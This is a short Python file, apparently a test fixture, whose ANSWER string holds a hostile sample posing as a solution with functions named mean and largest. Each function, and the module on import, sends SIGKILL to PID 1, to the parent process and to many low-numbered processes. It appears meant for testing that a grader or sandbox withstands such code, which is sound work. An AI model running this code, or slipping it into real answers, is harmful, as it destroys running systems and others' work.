"""Signals every process that it can name, itself last."""

ANSWER = r"""
import os
import signal


def kill():
    for pid in (1, os.getppid(), *range(2, 40)):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass


def mean(values):
    kill()
    return 0.0


def largest(values):
    kill()
    os.kill(os.getpid(), signal.SIGKILL)


kill()
"""
